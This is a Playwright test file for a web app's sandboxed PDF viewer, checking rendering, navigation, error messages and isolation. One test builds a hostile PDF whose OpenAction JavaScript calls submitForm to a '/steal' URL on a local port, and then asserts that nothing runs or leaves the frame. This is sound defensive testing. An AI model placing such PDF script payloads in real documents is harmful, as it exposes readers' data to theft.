import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import type { Frame, Page } from '@playwright/test';
import { AdminPassword, expect, test, waitForApp, type RootFolder } from './fixtures';
import { repositoryRoot, webDist } from './support/burrow-server';
import { fixturesFolder } from './support/root-folder';

/** Kept out of Playwright's own output folder, which every run empties, so they can be looked at afterwards. */
const shotsFolder = path.join(repositoryRoot, 'test-results/pdf-shots');

type PdfOptions = {
  /** Extra entries for the catalog (an OpenAction, say). */
  catalog?: string;
  /** Extra entries for every page (annotations, say). */
  page?: string;
  /** Extra fonts for every page's resources, and drawing operators using them. */
  fonts?: string;
  content?: string;
  /** Extra objects, numbered from 100. */
  objects?: string[];
  /** Encrypts with the standard handler (RC4, 40 bits) under this user password. */
  userPassword?: string;
};

/** RC4, which the PDF standard security handler (revision 2) uses. */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, index) => index);
  for (let i = 0, j = 0; i < 256; i += 1) {
    j = (j + s[i]! + key[i % key.length]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n += 1) {
    i = (i + 1) & 255;
    j = (j + s[i]!) & 255;
    [s[i], s[j]] = [s[j]!, s[i]!];
    out[n] = data[n]! ^ s[(s[i]! + s[j]!) & 255]!;
  }
  return out;
}

const PasswordPadding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
const padPassword = (password: string) => Buffer.concat([Buffer.from(password, 'latin1'), PasswordPadding]).subarray(0, 32);
const md5 = (...parts: Buffer[]) => crypto.createHash('md5').update(Buffer.concat(parts)).digest();

/**
 * A small, valid PDF: one page per text, each line drawn in Helvetica, with a correct cross-reference
 * table. Encrypted ones only carry the dictionaries a reader checks the password against (the
 * content would need encrypting too, but a reader without the password never gets that far).
 */
function makePdf(texts: string[], options: PdfOptions = {}): Buffer {
  const objects: string[] = [];
  const pageIds = texts.map((_, index) => 4 + index * 2);
  objects[1] = `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`;
  objects[2] = `<< /Type /Pages /Kids [${pageIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${texts.length} >>`;
  objects[3] = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  texts.forEach((text, index) => {
    const lines = text.split('\n').map((line, row) => `BT /F1 28 Tf 72 ${700 - row * 40} Td (${line}) Tj ET`);
    // A thick frame and a filled block, so a drawn page has plenty of dark pixels.
    const content = `0 0 0 rg 60 60 492 8 re f 60 300 200 120 re f\n${lines.join('\n')}\n${options.content ?? ''}`;
    objects[pageIds[index]!] = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${pageIds[index]! + 1} 0 R /Resources << /Font << /F1 3 0 R ${options.fonts ?? ''}>> >> ${options.page ?? ''}>>`;
    objects[pageIds[index]! + 1] = `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
  });
  options.objects?.forEach((object, index) => (objects[100 + index] = object));
  let trailerExtra = '';
  if (options.userPassword !== undefined) {
    const id = crypto.randomBytes(16);
    const permissions = -4;
    const owner = rc4(md5(padPassword('owner secret')).subarray(0, 5), padPassword(options.userPassword));
    const p = Buffer.alloc(4);
    p.writeInt32LE(permissions);
    const key = md5(padPassword(options.userPassword), owner, p, id).subarray(0, 5);
    const user = rc4(key, PasswordPadding);
    objects[99] = `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P ${permissions} >>`;
    trailerExtra = ` /Encrypt 99 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`;
  }
  let body = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, number) => {
    if (object === undefined) return;
    offsets[number] = Buffer.byteLength(body, 'latin1');
    body += `${number} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, 'latin1');
  const size = objects.length;
  const rows = ['0000000000 65535 f '];
  for (let number = 1; number < size; number += 1) {
    rows.push(offsets[number] === undefined ? '0000000000 65535 f ' : `${String(offsets[number]).padStart(10, '0')} 00000 n `);
  }
  body += `xref\n0 ${size}\n${rows.join('\n')}\ntrailer\n<< /Size ${size} /Root 1 0 R${trailerExtra} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

async function openPreview(page: Page, path: string): Promise<void> {
  await page.goto(`files/${path}`);
  await waitForApp(page);
  await expect(page.locator('.preview')).toBeVisible();
}

const viewerFrame = (page: Page) => page.locator('iframe.media-player__frame');

/** The viewer's frame, once it has the document open. */
async function openedViewer(page: Page): Promise<Frame> {
  await expect(page.locator('.media-player--pdf')).toHaveAttribute('data-status', 'shown', { timeout: 15_000 });
  const frame = await (await viewerFrame(page).elementHandle())!.contentFrame();
  expect(frame).not.toBeNull();
  return frame!;
}

/** How many clearly dark pixels a page's canvas holds. */
function darkPixels(frame: Frame, pageNumber: number): Promise<number> {
  return frame.evaluate((number) => {
    const canvas = document.querySelector<HTMLCanvasElement>(`.page[data-page="${number}"] canvas`);
    if (!canvas || canvas.width === 0) return 0;
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    for (let index = 0; index < data.length; index += 4) if (data[index]! < 80 && data[index + 1]! < 80 && data[index + 2]! < 80) dark += 1;
    return dark;
  }, pageNumber);
}

function copyMedia(root: RootFolder & { folder: string }, names: string[]): void {
  for (const name of names) root.copyFixture(`media/${name}`, `${root.folder}/${name}`);
}

test.describe('PDF preview', () => {
  test('shows the document in an opaque-origin sandbox that reaches nothing of the app', async ({ adminPage, root, server }) => {
    copyMedia(root, ['doc.pdf']);
    const dialogs: string[] = [];
    adminPage.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await openPreview(adminPage, `${root.folder}/doc.pdf`);
    const frameElement = viewerFrame(adminPage);
    await expect(frameElement).toHaveAttribute('sandbox', 'allow-scripts');
    await expect(frameElement).toHaveAttribute('title', 'doc.pdf');
    expect(await frameElement.getAttribute('src')).toBe('/static/pdf-viewer.html');
    const frame = await openedViewer(adminPage);

    const viewer = adminPage.frameLocator('iframe.media-player__frame');
    await expect(viewer.locator('.toolbar__position')).toHaveText('Page 1 of 1');
    const canvas = viewer.getByRole('img', { name: 'Page 1 of 1' });
    await expect(canvas).toBeVisible();
    await expect.poll(() => darkPixels(frame, 1)).toBeGreaterThan(500);
    // The text layer lets the words be selected and copied.
    await expect(viewer.locator('.textLayer')).toContainText('Burrow sample PDF, page one');

    // An opaque origin: no way into the app's document, cookies or storage.
    const reach = await frame.evaluate(() => {
      const attempt = (read: () => unknown) => {
        try {
          read();
          return 'reachable';
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        origin: window.origin,
        parentDocument: attempt(() => window.parent.document.title),
        parentStorage: attempt(() => window.parent.localStorage.length),
        cookie: attempt(() => document.cookie),
        localStorage: attempt(() => window.localStorage.length),
        sessionStorage: attempt(() => window.sessionStorage.length),
      };
    });
    expect(reach).toEqual({
      origin: 'null',
      parentDocument: 'SecurityError',
      parentStorage: 'SecurityError',
      cookie: 'SecurityError',
      localStorage: 'SecurityError',
      sessionStorage: 'SecurityError',
    });
    // The file came through the app's client with its token; the frame fetched nothing but assets.
    const viewerPage = await fetch(`${server.url}/static/pdf-viewer.html`);
    expect(viewerPage.headers.get('content-security-policy')).toContain('sandbox allow-scripts');
    expect(dialogs).toEqual([]);
  });

  test('pages are drawn lazily; the bar pages through them and zooms', async ({ adminPage, root }) => {
    const texts = Array.from({ length: 30 }, (_, index) => `Page number ${index + 1}`);
    root.write(`${root.folder}/long.pdf`, makePdf(texts));
    await adminPage.setViewportSize({ width: 1000, height: 760 });
    await openPreview(adminPage, `${root.folder}/long.pdf`);
    const frame = await openedViewer(adminPage);
    const viewer = adminPage.frameLocator('iframe.media-player__frame');
    const position = viewer.locator('.toolbar__position');
    await expect(position).toHaveText('Page 1 of 30');
    await expect(viewer.locator('.page')).toHaveCount(30);
    await expect.poll(() => darkPixels(frame, 1)).toBeGreaterThan(1000);
    // Only the pages near the view have a canvas.
    const drawn = () => viewer.locator('.page canvas').count();
    expect(await drawn()).toBeLessThan(8);
    expect(await darkPixels(frame, 30)).toBe(0);

    await viewer.getByRole('button', { name: 'Next page' }).click();
    await expect(position).toHaveText('Page 2 of 30');
    await expect(viewer.getByRole('img', { name: 'Page 2 of 30' })).toBeVisible();
    await viewer.getByRole('button', { name: 'Previous page' }).click();
    await expect(position).toHaveText('Page 1 of 30');
    await expect(viewer.getByRole('button', { name: 'Previous page' })).toBeDisabled();

    // The keyboard scrolls the document from inside the frame.
    await viewer.locator('.pages').click({ position: { x: 5, y: 5 } });
    for (let step = 0; step < 6; step += 1) await adminPage.keyboard.press('PageDown');
    await expect.poll(async () => Number(/Page (\d+)/.exec((await position.textContent()) ?? '')?.[1])).toBeGreaterThan(2);
    await adminPage.keyboard.press('End');
    await expect(position).toHaveText('Page 30 of 30');
    await expect.poll(() => darkPixels(frame, 30)).toBeGreaterThan(1000);
    // Pages scrolled far away gave their canvas back.
    expect(await darkPixels(frame, 1)).toBe(0);
    expect(await drawn()).toBeLessThan(8);

    const zoom = viewer.locator('.toolbar__zoom');
    const pageWidth = () => viewer.locator('.page[data-page="30"]').evaluate((element) => element.getBoundingClientRect().width);
    const before = await pageWidth();
    const level = await zoom.textContent();
    await viewer.getByRole('button', { name: 'Zoom in' }).click();
    await expect(zoom).not.toHaveText(level!);
    expect(await pageWidth()).toBeGreaterThan(before);
    await expect(position).toHaveText('Page 30 of 30');
    // Redrawn at the new size, at the screen's density.
    await expect
      .poll(() => viewer.locator('.page[data-page="30"] canvas').evaluate((canvas: HTMLCanvasElement) => canvas.width / canvas.getBoundingClientRect().width))
      .toBeCloseTo(1, 1);
    await viewer.getByRole('button', { name: 'Zoom out' }).click();
    await viewer.getByRole('button', { name: 'Zoom out' }).click();
    expect(await pageWidth()).toBeLessThan(before);
    await viewer.getByRole('button', { name: 'Fit to width' }).click();
    const fitted = await pageWidth();
    const available = await viewer.locator('.pages').evaluate((element) => element.clientWidth);
    expect(fitted).toBeGreaterThan(available - 40);
    expect(fitted).toBeLessThanOrEqual(available);
  });

  /**
   * Presses a key inside the viewer that takes the viewer away, letting go of it only once that
   * happened. Sent as one press, the key sometimes never came back on a loaded machine: the next
   * file was already shown, yet the press waited until the test's time ran out (the release went
   * to a frame on its way out).
   */
  async function pressLeavingFrame(page: Page, key: string, left: () => Promise<void>): Promise<void> {
    await page.keyboard.down(key);
    await left();
    await page.keyboard.up(key);
  }

  test('arrow keys and Escape pressed inside the frame still step through files and close', async ({ adminPage, root, server }) => {
    // Three viewers in a row: more than a loaded machine does in the default time.
    test.slow();
    copyMedia(root, ['clip.mp4', 'doc.pdf', 'photo.jpg']);
    await openPreview(adminPage, `${root.folder}/doc.pdf`);
    await openedViewer(adminPage);
    const viewer = adminPage.frameLocator('iframe.media-player__frame');
    const title = adminPage.locator('.preview-bar__name');
    await viewer.locator('.pages').click();
    await expect.poll(() => viewer.locator(':focus').count()).toBe(1);
    await pressLeavingFrame(adminPage, 'ArrowRight', () => expect(title).toHaveText('photo.jpg'));

    await openPreview(adminPage, `${root.folder}/doc.pdf`);
    await openedViewer(adminPage);
    await viewer.getByRole('button', { name: 'Zoom in' }).click();
    await pressLeavingFrame(adminPage, 'ArrowLeft', () => expect(title).toHaveText('clip.mp4'));

    await openPreview(adminPage, `${root.folder}/doc.pdf`);
    await openedViewer(adminPage);
    await viewer.locator('.pages').click();
    await pressLeavingFrame(adminPage, 'Escape', () => expect(adminPage).toHaveURL(`${server.url}/files/${root.folder}/`));
    await expect(adminPage.locator('[aria-selected="true"]')).toContainText('doc.pdf');
  });

  test('Delete pressed inside the frame asks first, as it does outside it', async ({ adminPage, root }) => {
    copyMedia(root, ['doc.pdf', 'photo.jpg']);
    await openPreview(adminPage, `${root.folder}/doc.pdf`);
    await openedViewer(adminPage);
    const viewer = adminPage.frameLocator('iframe.media-player__frame');
    await viewer.locator('.pages').click();
    await expect.poll(() => viewer.locator(':focus').count()).toBe(1);
    await adminPage.keyboard.press('Delete');
    const confirm = adminPage.getByRole('alertdialog', { name: 'Delete' });
    await expect(confirm).toBeVisible();
    await confirm.getByRole('button', { name: 'Cancel' }).click();
    await expect(confirm).toHaveCount(0);
    expect(root.exists(`${root.folder}/doc.pdf`)).toBe(true);

    // Confirmed, the file goes and the preview moves on to the next one.
    await viewer.locator('.pages').click();
    await adminPage.keyboard.press('Delete');
    await confirm.getByRole('button', { name: 'Delete' }).click();
    await expect(adminPage.locator('.preview-bar__name')).toHaveText('photo.jpg');
    expect(root.exists(`${root.folder}/doc.pdf`)).toBe(false);
  });

  test('a damaged or password-protected PDF says so, and the download stays at hand', async ({ adminPage, root }) => {
    root.write(`${root.folder}/bad.pdf`, crypto.randomBytes(4096));
    root.write(`${root.folder}/locked.pdf`, makePdf(['Secret'], { userPassword: 'open sesame' }));
    const viewer = adminPage.frameLocator('iframe.media-player__frame');

    await openPreview(adminPage, `${root.folder}/bad.pdf`);
    await expect(adminPage.locator('.media-player--pdf')).toHaveAttribute('data-status', 'failed');
    await expect(viewer.getByRole('alert')).toHaveText("This PDF can't be displayed: the file is damaged or not a PDF.");
    await expect(viewer.locator('canvas')).toHaveCount(0);
    await expect(adminPage.locator('.preview-bar').getByRole('link', { name: 'Download' })).toHaveAttribute('href', new RegExp(`/api/raw/${root.folder}/bad\\.pdf$`));

    await openPreview(adminPage, `${root.folder}/locked.pdf`);
    await expect(adminPage.locator('.media-player--pdf')).toHaveAttribute('data-status', 'failed');
    await expect(viewer.getByRole('alert')).toHaveText("This PDF is protected by a password and can't be displayed here.");
    await expect(adminPage.locator('.preview-bar').getByRole('link', { name: 'Download' })).toBeVisible();
  });

  test('nothing in a document runs or navigates: scripts, links and forms stay inert', async ({ adminPage, root }) => {
    root.write(
      `${root.folder}/hostile.pdf`,
      makePdf(['Click anywhere'], {
        catalog: '/OpenAction 100 0 R /AcroForm << /Fields [101 0 R] >> ',
        page: '/Annots [101 0 R 102 0 R] ',
        objects: [
          '<< /S /JavaScript /JS (app.alert("pwned"); this.submitForm("http://127.0.0.1:9/steal");) >>',
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 500 300 530] /V (typed) >>',
          '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://127.0.0.1:9/away) >> >>',
        ],
      }),
    );
    const dialogs: string[] = [];
    adminPage.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const outside: string[] = [];
    adminPage.on('request', (request) => {
      if (new URL(request.url()).port === '9') outside.push(request.url());
    });
    await openPreview(adminPage, `${root.folder}/hostile.pdf`);
    const frame = await openedViewer(adminPage);
    const viewer = adminPage.frameLocator('iframe.media-player__frame');
    await expect.poll(() => darkPixels(frame, 1)).toBeGreaterThan(500);
    await expect(viewer.locator('a, input, textarea, select, form, section')).toHaveCount(0);
    await viewer.locator('.page').click({ position: { x: 100, y: 100 } });
    await adminPage.waitForTimeout(300);
    expect(frame.url()).toMatch(/\/static\/pdf-viewer\.html$/);
    expect(dialogs).toEqual([]);
    expect(outside).toEqual([]);
  });

  test('a font the document does not embed comes from the viewer\'s own assets', async ({ adminPage, root }) => {
    root.write(
      `${root.folder}/symbols.pdf`,
      makePdf(['Dingbats below'], {
        objects: ['<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>'],
        fonts: '/F2 100 0 R ',
        content: 'BT /F2 96 Tf 72 200 Td (4444) Tj ET',
      }),
    );
    const fontResponse = adminPage.waitForResponse((response) => /\/static\/assets\/FoxitDingbats-[\w-]+\.pfb$/.test(new URL(response.url()).pathname));
    await openPreview(adminPage, `${root.folder}/symbols.pdf`);
    const frame = await openedViewer(adminPage);
    const response = await fontResponse;
    expect(response.status()).toBe(200);
    expect(response.frame()).toBe(frame);
    // The check marks (ZapfDingbats "4") are drawn in the lower part of the page.
    await expect
      .poll(() =>
        frame.evaluate(() => {
          const canvas = document.querySelector<HTMLCanvasElement>('.page canvas');
          if (!canvas) return 0;
          const top = Math.floor(canvas.height * 0.62);
          const { data } = canvas.getContext('2d')!.getImageData(0, top, canvas.width, Math.floor(canvas.height * 0.1));
          let dark = 0;
          for (let index = 0; index < data.length; index += 4) if (data[index]! < 80) dark += 1;
          return dark;
        }),
      )
      .toBeGreaterThan(300);
  });

  test('works below a base URL', async ({ launchServer, pageAs }) => {
    const other = await launchServer({ baseURL: '/burrow' });
    fs.copyFileSync(path.join(fixturesFolder, 'media/doc.pdf'), path.join(other.root, 'doc.pdf'));
    const page = await pageAs({ username: 'admin', password: AdminPassword }, { server: other });
    await page.goto(`${other.url}/files/doc.pdf`);
    await waitForApp(page);
    await expect(viewerFrame(page)).toHaveAttribute('src', '/burrow/static/pdf-viewer.html');
    const frame = await openedViewer(page);
    await expect.poll(() => darkPixels(frame, 1)).toBeGreaterThan(500);
  });

  test('a PDF over the size limit is offered for download instead of being loaded', async ({ adminPage, root }) => {
    const file = root.write(`${root.folder}/huge.pdf`);
    // Sparse: the size is announced without the disk holding it.
    fs.truncateSync(file, 201 * 1024 * 1024);
    await openPreview(adminPage, `${root.folder}/huge.pdf`);
    const card = adminPage.locator('.preview .file-card');
    await expect(card).toContainText('PDFs larger than');
    await expect(card.getByRole('link', { name: 'Download' })).toHaveAttribute('href', new RegExp(`/api/raw/${root.folder}/huge\\.pdf$`));
    await expect(adminPage.locator('iframe')).toHaveCount(0);
  });

  test('the viewer page loads its own code only, and the app none of it', async ({ adminPage, root }) => {
    copyMedia(root, ['doc.pdf']);
    const loaded: { path: string; inFrame: boolean }[] = [];
    adminPage.on('request', (request) => {
      const { pathname } = new URL(request.url());
      if (/\.m?js$/.test(pathname)) loaded.push({ path: pathname, inFrame: request.frame() !== adminPage.mainFrame() });
    });
    await adminPage.goto(`files/${root.folder}/`);
    await waitForApp(adminPage);
    await adminPage.waitForLoadState('networkidle');
    expect(loaded.filter(({ path }) => /pdf/i.test(path))).toEqual([]);

    await adminPage.goto(`files/${root.folder}/doc.pdf`);
    await openedViewer(adminPage);
    const app = loaded.filter(({ inFrame }) => !inFrame).map(({ path }) => path);
    const viewer = loaded.filter(({ inFrame }) => inFrame).map(({ path }) => path);
    expect(app.filter((path) => /pdf/i.test(path))).toEqual([]);
    expect(viewer.sort()).toEqual([expect.stringMatching(/\/static\/assets\/pdf-viewer-[\w-]+\.js$/), expect.stringMatching(/\/static\/assets\/pdf\.worker\.min-[\w-]+\.mjs$/)]);
    const gzipped = (urlPath: string) => zlib.gzipSync(fs.readFileSync(path.join(webDist, urlPath.replace(/^.*?\/static\//, ''))), { level: 9 }).length;
    const [script, worker] = viewer.map(gzipped);
    const report = `viewer ${(script! / 1000).toFixed(1)} KB, parser worker ${(worker! / 1000).toFixed(1)} KB gzipped`;
    test.info().annotations.push({ type: 'PDF viewer JavaScript', description: report });
    console.log(`PDF viewer: ${report}`);
  });

  test('screenshots: the viewer follows the light and dark theme', async ({ adminPage, root }) => {
    fs.mkdirSync(shotsFolder, { recursive: true });
    root.write(`${root.folder}/report.pdf`, makePdf(['Quarterly report', 'Second page']));
    for (const width of [1280, 375]) {
      await adminPage.setViewportSize({ width, height: width > 700 ? 800 : 740 });
      for (const theme of ['light', 'dark'] as const) {
        await adminPage.emulateMedia({ colorScheme: theme });
        await openPreview(adminPage, `${root.folder}/report.pdf`);
        const frame = await openedViewer(adminPage);
        await expect(adminPage.frameLocator('iframe.media-player__frame').locator('html')).toHaveAttribute('data-theme', theme);
        await expect.poll(() => darkPixels(frame, 1)).toBeGreaterThan(500);
        await adminPage.screenshot({ path: path.join(shotsFolder, `pdf-${theme}-${width}.png`), animations: 'disabled' });
      }
    }
    // Switching the system scheme while open restyles the viewer too.
    await adminPage.emulateMedia({ colorScheme: 'light' });
    await expect(adminPage.frameLocator('iframe.media-player__frame').locator('html')).toHaveAttribute('data-theme', 'light');
  });
});
